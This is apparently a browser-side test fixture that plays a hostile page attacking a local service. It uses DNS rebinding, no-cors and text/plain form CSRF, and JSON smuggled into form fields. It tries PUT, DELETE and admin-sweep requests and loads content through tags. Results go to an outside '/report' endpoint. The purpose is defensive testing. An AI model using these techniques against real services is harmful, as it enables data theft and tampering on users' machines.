// What a hostile page does to a service. The test defines `service`, `site`, `capture` and `observation` before it.
const found = {read: []};
const keep = (how, what) => { if (what) found.read.push([how, String(what).slice(0, 200)]); };
const pause = ms => new Promise(done => setTimeout(done, ms));
const settled = element => new Promise(done => { element.onload = () => done(true); element.onerror = () => done(false); });
async function read(how, path, options) {
    try {
        const answer = await fetch(service + path, options);
        if (answer.type !== "opaque" && answer.ok) keep(how, await answer.text());
    } catch (refused) { /* as it should be */ }
}
async function element(how, name, attributes) {
    const made = Object.assign(document.createElement(name), attributes);
    const loading = settled(made);
    document.body.append(made);
    const is_loaded = await Promise.race([loading, pause(5000)]);
    if (name === "iframe") { try { keep(how, made.contentDocument.body.innerText.includes("secret")); } catch (blocked) { } }
    else if (is_loaded === true) keep(how, name + " loaded");
}
async function form(path, name, value) {
    const frame = Object.assign(document.createElement("iframe"), {name: "target" + Math.random()});
    const made = Object.assign(document.createElement("form"),
        {method: "POST", action: service + path, enctype: "text/plain", target: frame.name});
    made.append(Object.assign(document.createElement("input"), {name, value}));
    document.body.append(frame, made);
    const loading = settled(frame);
    made.submit();
    await Promise.race([loading, pause(5000)]);
}
async function attack() {
    const content = "/v1/captures/" + capture + "/content";
    const text = {"Content-Type": "text/plain"}, body = JSON.stringify(observation);
    await read("GET", "/v1/captures");
    await read("GET content", content);
    await read("GET no-cors", content, {mode: "no-cors"});
    await read("metrics", "/metrics");
    await read("page", "/");
    await read("PUT", "/v1/captures/" + capture, {method: "PUT", body: "replaced"});
    await read("DELETE", "/v1/captures/" + capture, {method: "DELETE"});
    await read("PATCH", "/v1/captures/" + capture, {method: "PATCH", body: '{"ttl": 1}', headers: text});
    await read("POST no-cors", "/v1/observations", {method: "POST", mode: "no-cors", headers: text, body});
    await read("POST json", "/v1/observations", {method: "POST", body, headers: {"Content-Type": "application/json"}});
    await read("POST capture", "/v1/captures", {method: "POST", mode: "no-cors", headers: text, body: "planted"});
    await read("sweep", "/v1/admin/sweep", {method: "POST", mode: "no-cors", headers: text, body: "{}"});
    navigator.sendBeacon(service + "/v1/admin/sweep", body);
    await form("/v1/admin/sweep", "{", "}");
    await form("/v1/observations", body.slice(0, -1) + ',"x":"', '"}');
    await element("img", "img", {src: service + content});
    await element("script", "script", {src: service + content});
    await element("style", "link", {rel: "stylesheet", href: service + content});
    await element("iframe", "iframe", {src: service + content});
    await pause(300);
}

const report = what => fetch(site + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify(what)});

// A page whose own name is made to lead to the service: its own server no longer answers from then on.
async function rebound() {
    await report("loaded");
    for (let tries = 0; tries < 200; tries++) {
        const answer = await fetch("/v1/usage", {cache: "no-store"}).catch(() => null);
        if (answer && !(await answer.text()).startsWith("<!doctype")) break;
        await pause(50);
    }
    await attack();
}
